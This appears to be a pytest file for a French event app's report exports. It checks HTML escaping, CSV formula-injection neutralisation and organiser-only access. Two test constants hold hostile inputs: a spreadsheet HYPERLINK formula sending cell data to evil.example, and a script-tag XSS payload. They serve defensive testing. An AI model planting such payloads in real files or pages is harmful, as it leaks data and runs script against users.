"""End-of-event report: HTML (escaped, printable) and CSV (formula injection neutralised)."""

from __future__ import annotations

import csv
import io

import pytest

from app.models import Feedback, db
from app.models.enums import FeedbackOutcome, MeetingStatus
from tests.live.test_feedback import build_world

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
SCRIPT = "<script>alert('x')</script>"


@pytest.fixture
def world(factory):
    world = build_world(factory)
    world.held.status = MeetingStatus.HELD
    db.session.add_all(
        [
            Feedback(
                meeting=world.held,
                registration=world.reg_c,
                rating=4,
                outcome=FeedbackOutcome.PILOT,
                comment=INJECTION,
            ),
            Feedback(
                meeting=world.held,
                registration=world.reg_p,
                rating=5,
                outcome=FeedbackOutcome.CONTRACT,
                comment=SCRIPT,
            ),
        ]
    )
    db.session.commit()
    return world


def report_url(world, suffix: str = "") -> str:
    return f"/organisateur/evenements/{world.event.slug}/{suffix}"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_meetings_csv_neutralises_formulas_in_comments(client, auth, world):
    auth.login("orga@example.fr")
    rows = rows_of(client.get(report_url(world, "rapport-rendez-vous.csv")))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Date", "Début", "Fin", "Table", "Organisation 1"]
    held = next(r for r in body if r[-1] == world.held.uid)
    cells = dict(zip(header, held, strict=True))
    assert cells["Organisation 1"] == "Usine SAS"  # the company first
    assert cells["Organisation 2"] == "Robot IA"
    assert cells["Note 1"] == "4" and cells["Suite 1"] == "Projet pilote"
    assert cells["Commentaire 1"] == "'" + INJECTION  # shown as text, never run
    assert cells["Note 2"] == "5" and cells["Commentaire 2"] == SCRIPT
    assert cells["Secteur 1"] == "Industrie manufacturière"
    assert len(body) == 5  # every meeting, cancelled and no-show included
    assert cells["Statut"] == "tenu"
    cancelled = next(r for r in body if r[-1] == world.cancelled.uid)
    assert cancelled[header.index("Statut")] == "annulé"


def test_summary_csv_has_totals_sectors_and_use_cases(client, auth, world):
    auth.login("orga@example.fr")
    rows = rows_of(client.get(report_url(world, "rapport.csv")))
    totals = {r[1]: r[2] for r in rows[1:] if r[0] == "Totaux"}
    assert totals["Rendez-vous prévus"] == "4"
    assert totals["Rendez-vous tenus"] == "1"
    assert totals["Rendez-vous avec une absence"] == "1"
    assert totals["Rendez-vous annulés"] == "1"
    assert totals["Rendez-vous sur place"] == "1"
    assert totals["Note moyenne (sur 5)"] == "4,50"
    assert totals["Contrat"] == "1"
    sectors = {r[1]: r[3:] for r in rows[1:] if r[0] == "Secteur"}
    assert sectors["Industrie manufacturière"][:2] == ["2", "1"]  # planned, held
    assert {r[1] for r in rows[1:] if r[0] == "Cas d'usage"} >= {
        "Assistant conversationnel service client"
    }


def test_report_html_escapes_comments_and_prints(client, auth, world):
    auth.login("orga@example.fr")
    response = client.get(report_url(world, "rapport"))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in page
    assert "<h1>Bilan de l'événement — " in page
    assert "style=" not in page
    assert "data-print" in page and "/static/js/print.js" in page


def test_report_is_for_organisers_only(client, auth, world):
    auth.login("alice@example.fr")
    for suffix in ("rapport", "rapport.csv", "rapport-rendez-vous.csv"):
        assert client.get(report_url(world, suffix)).status_code == 403
